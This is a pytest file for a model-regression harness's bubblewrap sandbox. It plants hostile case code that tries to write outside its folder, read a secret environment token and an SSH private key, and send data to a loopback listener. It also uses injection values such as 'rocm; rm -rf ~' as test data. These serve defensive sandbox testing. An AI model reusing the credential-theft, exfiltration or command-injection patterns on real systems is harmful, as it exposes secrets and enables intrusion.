"""Case code runs in the sandbox; tools and case code get a scrubbed environment.

A planted hostile model.py tries what a stranger's case could: write outside its
scratch folder, read a secret from the environment and a credential file from HOME,
and reach a server the test listens with on the host's loopback.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
from pathlib import Path

import pytest

from harness.cache import Cache
from harness.process import run_bounded
from harness.sandbox import NONE_ASKED, case_env, probe, tool_env
from harness.stages import Settings, run_torch_job
from harness.toolchain import Toolchain

HOSTILE = '''
import os, socket, sys
def attempt(what, fn):
    try:
        print(what, "DONE", fn(), file=sys.stderr)
    except Exception as e:
        print(what, "REFUSED", type(e).__name__, e, file=sys.stderr)
attempt("write-outside", lambda: open({outside!r}, "w").write("pwned"))
attempt("read-secret", lambda: os.environ["FAKE_SECRET_TOKEN"])
attempt("read-credentials", lambda: open({credentials!r}).read() or "(empty)")
def connect():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"exfiltrated")
    return "connected"
attempt("network", connect)
attempt("write-tmp", lambda: open("/tmp/hostile-tmp-file", "w").write("x"))
raise SystemExit("hostile model.py done")
'''


def _listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(8)
    got = []

    def accept():
        try:
            conn, _ = server.accept()
            got.append(conn.recv(100))
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    return server, thread, got


def _run_hostile(tmp_path, monkeypatch, sandbox):
    monkeypatch.setenv("FAKE_SECRET_TOKEN", "s3cr3t-value")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY MATERIAL")
    monkeypatch.setenv("HOME", str(home))
    server, thread, got = _listener()
    case = tmp_path / "case"
    case.mkdir()
    # On the real root, not under /tmp (the sandbox's /tmp is its own, so a write there
    # succeeds and vanishes: see write-tmp)
    outside = Path("/var/tmp") / f"iree-regress-hostile-{os.getpid()}-{tmp_path.name}.txt"
    (case / "model.py").write_text(HOSTILE.format(outside=str(outside), port=server.getsockname()[1],
                                                  credentials=str(home / ".ssh" / "id_ed25519")))
    (case / "inputs").mkdir()
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    settings = Settings(Toolchain(Path("x"), Path("x"), Path("x"), "0", "", "0", "test"), Cache(tmp_path / "c"),
                        sandbox=sandbox)
    result = run_torch_job("import", [case / "model.py", case / "inputs", scratch], settings, writable=scratch)
    thread.join(timeout=10)
    server.close()
    return result, outside, got


def _sandbox_or_skip():
    sandbox = probe()
    if not sandbox.bwrap:
        pytest.skip(f"no sandbox on this machine: {sandbox.why}")
    return sandbox


def test_hostile_case_code_cannot_write_outside_read_secrets_or_reach_the_network(tmp_path, monkeypatch):
    result, outside, got = _run_hostile(tmp_path, monkeypatch, _sandbox_or_skip())
    log = result.log
    # /var/tmp is not there at all (reads contained), so the write fails as a missing folder
    assert not outside.exists() and "write-outside REFUSED FileNotFoundError" in log, log
    assert "s3cr3t" not in log and "read-secret REFUSED KeyError" in log
    assert "PRIVATE KEY" not in log  # the credential file reads empty, or not at all
    assert got == [] and "network REFUSED" in log
    assert "write-tmp DONE" in log and not Path("/tmp/hostile-tmp-file").exists()  # a private /tmp
    assert not result.ok and "the sandbox refused a write outside the item" in result.detail  # it says why
    assert result.status == "fail"  # the case's doing, not machine trouble (the root is read-only on purpose)


def test_without_the_sandbox_the_same_code_reaches_out(tmp_path, monkeypatch):
    """The planted fault: the same hostile program, unsandboxed, does all of it (so the
    test above would fail if the sandbox let it through)."""
    result, outside, got = _run_hostile(tmp_path, monkeypatch, NONE_ASKED)
    assert outside.read_text() == "pwned"
    outside.unlink()
    assert got == [b"exfiltrated"]
    assert "read-credentials DONE PRIVATE KEY MATERIAL" in result.log
    Path("/tmp/hostile-tmp-file").unlink(missing_ok=True)


@pytest.mark.harness
def test_tools_and_case_code_get_an_allowlisted_environment_without_secrets(monkeypatch):
    for name, value in (("GITHUB_TOKEN", "t"), ("AWS_SECRET_ACCESS_KEY", "k"), ("MY_API_KEY", "k"),
                        ("IREE_REGRESS_DEPLOY_TOKEN", "t"), ("SOME_RANDOM_VAR", "x"),
                        ("VK_ICD_FILENAMES", "/icd.json"), ("LD_LIBRARY_PATH", "/lib"), ("IREE_REGRESS_X", "1")):
        monkeypatch.setenv(name, value)
    env = tool_env()
    assert {"VK_ICD_FILENAMES", "LD_LIBRARY_PATH", "IREE_REGRESS_X", "PATH"} <= set(env)
    assert not {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY", "IREE_REGRESS_DEPLOY_TOKEN",
                "SOME_RANDOM_VAR"} & set(env)
    case = case_env()
    assert "VK_ICD_FILENAMES" not in case and "LD_LIBRARY_PATH" not in case and case["HOME"] == "/tmp"
    # And a tool run through run_bounded sees exactly that.
    printed = run_bounded([sys.executable, "-c", "import os; print(sorted(os.environ))"]).stdout.decode()
    assert "GITHUB_TOKEN" not in printed and "SOME_RANDOM_VAR" not in printed and "VK_ICD_FILENAMES" in printed


@pytest.mark.harness
def test_no_sandbox_is_said_and_recorded(monkeypatch):
    """Where bwrap is missing the probe says why, and the description says not sandboxed."""
    import harness.sandbox as sandbox

    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    sandbox.probe.cache_clear()
    try:
        made = sandbox.probe()
        assert made.bwrap is None and made.description.startswith("not sandboxed (bwrap is not installed")
        assert made.wrap(["python3", "x.py"], [Path("/tmp")]) == ["python3", "x.py"]
    finally:
        sandbox.probe.cache_clear()


def test_a_sweep_builder_runs_in_the_sandbox(tmp_path):
    """A builder is a stranger's Python too: built in the sandbox, its write outside fails,
    and the sweep's items say why."""
    from harness.case import CaseError
    from harness.sweep.materialize import program_of
    from harness.sweep.spec import load_sweep
    from test_sweep import BUILDER, TINY, write_sweep

    sandbox = _sandbox_or_skip()
    outside = Path("/var/tmp") / f"iree-regress-hostile-builder-{os.getpid()}.txt"
    path = write_sweep(tmp_path, TINY)
    (path.parent / "tiny.py").write_text(f"open({str(outside)!r}, 'w').write('pwned')\n" + BUILDER)
    sweep = load_sweep(path)
    with pytest.raises(CaseError, match="its builder failed .*(Read-only file system|No such file or directory)"):
        program_of(sweep, sweep.variants()[0], sandbox)
    assert not outside.exists()
    # Unsandboxed (the planted fault), the same builder writes it.
    program_of(sweep, sweep.variants()[0], NONE_ASKED)
    assert outside.read_text() == "pwned"
    outside.unlink()


# ------------------------------------------------------------------ bundles from strangers

FAKE_RUN_MODULE = """#!{python}
# a stranger's module, as far as the test can tell: it reaches out, then answers output = input
import sys, numpy as np
try:
    open({outside!r}, "w").write("pwned")
except OSError as e:
    print("write-outside REFUSED", e, file=sys.stderr)
args = dict(a[2:].split("=", 1) for a in sys.argv[1:] if "=" in a)
x = np.load([a for a in sys.argv if a.startswith("--input=@")][0][9:])
np.save([a for a in sys.argv if a.startswith("--output=@")][0][10:], x)
"""


def _bundle(root: Path, **meta) -> Path:
    import json

    import numpy as np

    bundle = root / "bundle"
    (bundle / "inputs").mkdir(parents=True)
    (bundle / "expected").mkdir()
    np.save(bundle / "inputs" / "input0.npy", np.arange(4, dtype=np.float32))
    np.save(bundle / "expected" / "output0.npy", np.arange(4, dtype=np.float32))
    (bundle / "module.vmfb").write_bytes(b"PK\x03\x04module")
    fields = {"case": "x", "item": "cpu-O0", "target": "cpu", "opt_level": "O0", "driver": "local-task", "function": "main", "outcome": "pass",
              "atol": 0, "rtol": 0, "output_rules": [], **meta}
    (bundle / "bundle.json").write_text(json.dumps({k: v for k, v in fields.items() if v is not None}))
    return bundle


def _run_bundle(*args, path_dir: Path | None = None):
    import subprocess

    env = dict(os.environ)
    if path_dir:
        env["PATH"] = f"{path_dir}:{env['PATH']}"
    return subprocess.run([sys.executable, "-m", "harness.cli", "run-bundle", *map(str, args)],
                          capture_output=True, text=True, env=env, cwd=Path(__file__).resolve().parent.parent)


@pytest.mark.parametrize("meta, cut, complaint", [
    ({"function": None}, False, "field 'function' is missing"),
    ({"atol": "0"}, False, "field 'atol'"),
    ({"driver": "rocm; rm -rf ~"}, False, "field 'driver'"),
    ({}, True, "not readable JSON"),
])
def test_a_malformed_bundle_is_one_line_and_exit_2(tmp_path, meta, cut, complaint):
    bundle = _bundle(tmp_path, **meta)
    if cut:  # cut short
        (bundle / "bundle.json").write_text((bundle / "bundle.json").read_text()[:30])
    done = _run_bundle(bundle)
    assert done.returncode == 2 and complaint in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_a_symlink_out_of_a_bundle_is_refused(tmp_path):
    bundle = _bundle(tmp_path)
    secret = tmp_path / "secret.npy"
    (bundle / "inputs" / "input0.npy").rename(secret)
    (bundle / "inputs" / "input0.npy").symlink_to(secret)
    done = _run_bundle(bundle, "--trust")
    assert done.returncode == 2 and "a symlink" in done.stderr and "Traceback" not in done.stderr


def test_a_bundles_module_runs_in_the_sandbox(tmp_path):
    """The module (a fake iree-run-module standing for its native code) cannot write
    outside; with --trust (the planted fault) it can. run_bundle.py alone asks for --trust."""
    _sandbox_or_skip()
    outside = Path("/var/tmp") / f"iree-regress-hostile-bundle-{os.getpid()}.txt"
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "iree-run-module").write_text(FAKE_RUN_MODULE.format(python=sys.executable, outside=str(outside)))
    (tools / "iree-run-module").chmod(0o755)
    bundle = _bundle(tmp_path)
    done = _run_bundle(bundle, path_dir=tools)
    assert done.returncode == 0 and "pass" in done.stdout, done.stdout + done.stderr
    assert not outside.exists()
    trusted = _run_bundle(bundle, "--trust", path_dir=tools)
    assert trusted.returncode == 0 and outside.read_text() == "pwned"
    outside.unlink()
    import shutil
    import subprocess

    shutil.copy(Path(__file__).resolve().parent.parent / "harness" / "bundle" / "run.py", bundle / "run_bundle.py")
    alone = subprocess.run([sys.executable, str(bundle / "run_bundle.py"), str(bundle)], capture_output=True, text=True)
    assert alone.returncode == 2 and "--trust" in alone.stderr


@pytest.mark.harness
def test_binds_are_as_few_as_show_the_same(tmp_path):
    """A folder whose every entry is given is bound once (190 bundles: 105 ms of binds
    against 4 ms); a path inside another is dropped; a missing one is skipped."""
    from harness.sandbox import fewest

    for name in ("a", "b", "c"):
        (tmp_path / "all" / name).mkdir(parents=True)
    (tmp_path / "some" / "x").mkdir(parents=True)
    (tmp_path / "some" / "y").mkdir()
    given = [tmp_path / "all" / n for n in "abc"] + [tmp_path / "some" / "x", tmp_path / "some" / "x" / "in",
                                                     tmp_path / "missing"]
    (tmp_path / "some" / "x" / "in").mkdir()
    assert fewest(given) == [str(tmp_path / "all"), str(tmp_path / "some" / "x")]  # y stays unseen


def test_iree_regress_golden_runs_the_case_program_in_the_sandbox(tmp_path, monkeypatch, capsys):
    """`iree-regress golden` on a stranger's case: its program writes only inside the case."""
    from harness.cli import main as cli_main

    _sandbox_or_skip()
    outside = Path("/var/tmp") / f"iree-regress-hostile-golden-{os.getpid()}.txt"
    case = tmp_path / "cases" / "hostile-golden"
    case.mkdir(parents=True)
    (case / "case.toml").write_text('title = "x"\nkind = "numeric"\nissues = ["iree-org/iree#1"]\nfamily = "other"\n'
                                    '[source]\nmlir = "model.mlir"\n[matrix]\ntargets = ["cpu"]\nopt_levels = ["O0"]\n')
    (case / "model.mlir").write_text("func.func @main() { return }\n")
    (case / "reference.py").write_text(f"open({str(outside)!r}, 'w').write('pwned')\n"
                                       "import torch\ndef example_inputs():\n    return ()\n"
                                       "def reference():\n    return torch.zeros(2)\n")
    monkeypatch.chdir(tmp_path)
    assert cli_main(["golden", "hostile-golden"]) == 1
    assert "the sandbox refused a write outside the item" in capsys.readouterr().err and not outside.exists()
    (case / "reference.py").write_text((case / "reference.py").read_text().split("\n", 1)[1])  # the write gone
    assert cli_main(["golden", "hostile-golden"]) == 0
    assert (case / "expected" / "output0.npy").is_file()


SLEEPY_RUN_MODULE = """#!{python}
import time
time.sleep(60)
"""


@pytest.mark.parametrize("trust", [True, False])
def test_a_module_that_hangs_is_a_timeout_in_or_out_of_the_sandbox(tmp_path, monkeypatch, capsys, trust):
    from harness.bundle import run
    from harness.cli import main as cli_main

    if not trust:
        _sandbox_or_skip()
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "iree-run-module").write_text(SLEEPY_RUN_MODULE.format(python=sys.executable))
    (tools / "iree-run-module").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    monkeypatch.setattr(run, "RUN_TIMEOUT_S", 1)
    bundle = _bundle(tmp_path)
    assert cli_main(["run-bundle", str(bundle), *(["--trust"] if trust else [])]) == 1
    assert "run-timeout (killed after 1 s" in capsys.readouterr().out


def test_a_file_a_bundle_does_not_hold_is_refused(tmp_path):
    """A name lay_out never writes (here one holding a newline, which a shell would split)."""
    bundle = _bundle(tmp_path)
    (bundle / "inputs" / "input0.npy").rename(bundle / "inputs" / "input1\nrm -rf x.npy")
    done = _run_bundle(bundle, "--trust")
    assert done.returncode == 2 and "not a file a bundle holds" in done.stderr and "Traceback" not in done.stderr


def test_bundle_results_never_lose_a_bundle_or_pass_one_that_ran_nothing(tmp_path, monkeypatch):
    """--results: a bundle refused after the up-front check is a harness-error line; one
    with no module (its compile failed where it was made) is a skip, never a pass."""
    from harness.bundle.results import bundle_record
    from helpers import compile_case

    monkeypatch.chdir(tmp_path)
    compile_case(tmp_path / "cases", "x")
    no_module = _bundle(tmp_path, outcome="compile-fail")
    (no_module / "module.vmfb").unlink()
    record, _ = bundle_record(no_module)
    assert (record.outcome, record.verdict) == ("skip", "SKIP"), record
    linked = _bundle(tmp_path / "other")
    secret = tmp_path / "secret.npy"
    (linked / "inputs" / "input0.npy").rename(secret)
    (linked / "inputs" / "input0.npy").symlink_to(secret)
    record, _ = bundle_record(linked)
    assert record.outcome == "harness-error" and "a symlink" in record.message


def test_a_command_past_its_time_kills_its_sandbox_and_the_next_runs_in_a_fresh_one():
    """The sandbox shell bounds each command itself (no `timeout` process in front of every
    module): a command past its time takes its sandbox with it, nothing of it keeps running,
    and the commands after it still run."""
    import subprocess

    from harness.sandbox import SandboxShell, TIMED_OUT_CODE, probe, tool_env

    _sandbox_or_skip()
    with SandboxShell(probe(), [], devices=False, env=tool_env()) as shell:
        assert shell.run(["sleep", "37"], shell.folder(), 1) == (TIMED_OUT_CODE, "killed after 1 s")
        assert not subprocess.run(["pgrep", "-f", "sleep 37"], capture_output=True).stdout
        assert shell.run(["sh", "-c", "echo said >&2; exit 3"], shell.folder(), 5) == (3, "said\n")


def test_a_bundle_whose_sandbox_died_is_a_harness_error_line_and_the_rest_still_run(tmp_path, monkeypatch):
    """The sandbox's shell ending (or failing to start again after a timeout) is an OSError
    from the runner: that bundle is a harness-error line, and every later one gets its line."""
    from harness.bundle.results import write_bundle_results
    from harness.results import read_results
    from helpers import compile_case

    class DeadShell:
        def folder(self):
            import tempfile

            return Path(tempfile.mkdtemp(dir=tmp_path))

        def run(self, argv, out, timeout_s):
            raise OSError("the sandbox's shell ended (exit 1)")

    monkeypatch.chdir(tmp_path)
    compile_case(tmp_path / "cases", "x")
    bundles = [_bundle(tmp_path / "a"), _bundle(tmp_path / "b")]
    assert write_bundle_results(bundles, tmp_path / "r.jsonl", runner=DeadShell()) == 1
    _, records = read_results(tmp_path / "r.jsonl")
    assert [r.outcome for r in records] == ["harness-error"] * 2, records
    assert all("shell ended" in r.message for r in records), [r.message for r in records]


def test_sandboxed_tool_calls_leave_no_zombies_behind(tmp_path):
    """A subreaper inherits the sandbox's own processes; each is killed and reaped when the
    tool ends. Planted: reaped without waiting for the kill to land, six calls left two or
    three zombies (a reduction's hundreds of trials, hundreds). (The once-a-process probe may
    leave one: counted before the calls.)"""
    import subprocess

    _sandbox_or_skip()
    script = tmp_path / "calls.py"
    script.write_text(
        "import os, time\n"
        "from harness.process import become_subreaper, run_bounded\n"
        "from harness.sandbox import probe\n"
        "become_subreaper()\n"
        "box = probe()\n"
        "def zombies():\n"
        "    found = 0\n"
        "    for pid in os.listdir('/proc'):\n"
        "        try:\n"
        "            stat = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()\n"
        "        except (OSError, IndexError):\n"
        "            continue\n"
        "        found += stat[0] == 'Z' and int(stat[1]) == os.getpid()\n"
        "    return found\n"
        "run_bounded(box.wrap(['true'], []), wrapped=True, sandbox=box)\n"
        "time.sleep(0.5)  # the probe's own leftover, if any, has died by now\n"
        "before = zombies()\n"
        "for _ in range(6):\n"
        "    assert run_bounded(box.wrap(['true'], []), wrapped=True, sandbox=box).returncode == 0\n"
        "print(zombies() - before)\n")
    out = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                         cwd=Path(__file__).resolve().parent.parent, timeout=120)
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip() == "0", out.stdout
